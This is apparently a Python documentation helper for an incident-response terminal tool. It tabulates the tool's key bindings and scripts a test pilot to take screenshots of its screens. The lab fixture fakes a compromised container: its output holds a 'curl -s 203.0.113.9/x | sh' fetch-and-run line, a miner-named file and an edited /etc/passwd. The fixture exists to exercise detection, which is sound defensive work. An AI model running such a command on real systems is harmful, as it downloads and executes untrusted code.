"""What the page of the terminal interface has that comes from the code: its keys, and pictures it makes of itself."""

import asyncio
import importlib
import inspect
import pkgutil
import re
from collections.abc import Awaitable, Callable, Iterator, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

from textual.binding import Binding
from textual.keys import format_key

import irkit.tui
from irkit.app import Setting
from irkit.app.opened import Opened
from irkit.tui.app import IrkitApp
from irkit.tui.keys import words_of
from irkit.tui.services import open_services

if TYPE_CHECKING:
    from textual.pilot import Pilot

    from tests.lab.suspects import Lab

PLACES: Final = (
    ("Everywhere", ("IrkitApp",)),
    ("In the list of containers", ("TriageScreen",)),
    ("In any table of containers or hosts", ("LiveTable",)),
    ("In a container", ("ContainerScreen", "LogsPane", "InspectPane")),
    ("In lines", ("LineView", "SearchScreen")),
    ("In a list to choose from", ("Choices",)),
    ("In playbooks, parameters, plans and their confirmation",
     ("PlaybooksScreen", "ParametersScreen", "PlanScreen", "ConfirmScreen")),
    ("In a run", ("RunScreen",)),
    ("In the evidence", ("EvidenceScreen", "BundleScreen", "ItemScreen")),
    ("In hosts", ("HostsScreen",)),
    ("In the case", ("CaseScreen",)),
    ("In questions, notes and the help", ("ChoiceScreen", "NoteScreen", "HelpScreen", "SmallScreen")),
)  # fmt: skip
"""Headings, and the classes whose keys stand below them."""
SIZE: Final = (100, 30)
_SECONDS: Final = 60
_CLOCK: Final = re.compile(r"\d\d:\d\d:\d\d(\.\d+)?Z")
_MOMENT: Final = "14:02:11Z"

Script = Callable[[IrkitApp, "Pilot[Any]"], Awaitable[None]]


def bindings() -> dict[str, list[Binding]]:
    """The keys of irkit's own, by the name of the class that has them."""
    found: dict[str, list[Binding]] = {}
    for module in pkgutil.walk_packages(irkit.tui.__path__, "irkit.tui."):
        for name, one in vars(importlib.import_module(module.name)).items():
            if inspect.isclass(one) and one.__module__ == module.name and "BINDINGS" in vars(one):
                found[name] = list(vars(one)["BINDINGS"])
    return found


def key_rows(names: Sequence[str]) -> Iterator[tuple[str, str, str]]:
    """Keys, what they do, and the name a configuration file calls that by."""
    known = bindings()
    for name in names:
        for one in known.get(name, []):
            keys = ", ".join(f"`{format_key(key).replace('`', '')}`" for key in one.key.split(","))
            yield keys, words_of(one), f"`{one.id}`"


def block_keys() -> str:
    """Every key of the terminal interface."""
    parts = []
    for title, names in PLACES:
        rows = "\n".join(f"| {' | '.join(row)} |" for row in key_rows(names))
        parts.append(f"**{title}**\n\n| keys | what | id |\n| --- | --- | --- |\n{rows}\n")
    return "\n".join(parts)


# Pictures ---------------------------------------------------------------------------------------------------------


def make_suspects(lab: "Lab") -> None:
    """Beside those of the command line: containers with ways to their host."""
    from tests.lab.description import Attach, Suspect  # noqa: PLC0415 - the lab is needed for this alone

    agent = Suspect(
        name="build-agent",
        networks=(Attach("back"),),
        binds={"/etc": "/host/etc:ro", "/run": "/run"},
        pid="host",
        capabilities=("SYS_PTRACE",),
        stdout=(b"job 4711 begun\n", b"curl -s 203.0.113.9/x | sh\n", b"job 4711 done\n"),
        stderr=(b"warning: unknown runner\n",),
        changed={"/tmp/.x/kdevtmpfsi": b"#!/bin/sh\n", "/etc/passwd": b"root:x:0:0\n"},  # noqa: S108 - in a container
    )
    lab.make(agent)
    lab.make(Suspect(name="cache", networks=(Attach("back"),), user="1000"))


def screens(folder: Path, environment: dict[str, str]) -> dict[str, str]:
    """Pictures of the main screens on the engine that the environment names, as SVG by name."""
    taken: dict[str, str] = {}
    setting = Setting(environment=environment, evidence=folder)
    services = open_services(setting, Opened(case="IR-2026-042", responder="ada@desk"))
    app = IrkitApp(services)

    async def run() -> None:
        async with app.run_test(size=SIZE) as pilot:
            await _tour(app, pilot, taken)

    try:
        asyncio.run(run())
    finally:
        services.close()
        for one in services.runs.runs:
            one.end()
            one.wait(_SECONDS)
    return taken


async def _tour(app: IrkitApp, pilot: "Pilot[Any]", taken: dict[str, str]) -> None:
    """From the list to the bundle, by the keys a responder would press."""

    async def take(name: str, title: str, *texts: str) -> None:
        await _until(app, pilot, texts)
        taken[name] = _CLOCK.sub(_MOMENT, app.export_screenshot(title=title))

    await _until(app, pilot, ("5/5 shown", "no filter"), without="??????")
    await pilot.press("g")
    await take("tui-triage", "The list: gravest first", "5/5 shown")
    await pilot.press("enter")
    await take("tui-container", "One container: what was found, and what it rests on", "because")
    await pilot.press("t")
    await take("tui-processes", "Its processes, seen from outside", "processes as of")
    await pilot.press("escape", "A", "I")
    await take("tui-plan", "The dry run", "DRY RUN")
    await pilot.press("enter")
    await _until(app, pilot, ("Type  build-agent",))
    await pilot.press(*"build-agent", "enter")
    await take("tui-run", "The run, ended", "; bundle irb-", "STILL CHANGED")
    await pilot.press("U")
    await _until(app, pilot, ("DRY RUN",))
    await pilot.press("enter")
    await _until(app, pilot, ("Type  ",))
    await pilot.press(*getattr(app.screen, "phrase", ""), "enter")
    await _until(app, pilot, ("of undo", "; bundle irb-"))


async def _until(app: IrkitApp, pilot: "Pilot[Any]", texts: Sequence[str], without: str = "\0") -> None:
    shown = ""
    for _ in range(_SECONDS * 10):
        shown = "\n".join(strip.text for strip in app.screen._compositor.render_strips())
        if all(text in shown for text in texts) and without not in shown:
            await pilot.pause(0.5)
            return
        await pilot.pause(0.1)
    raise SystemExit(f"docs: {texts} did not come:\n{shown}")
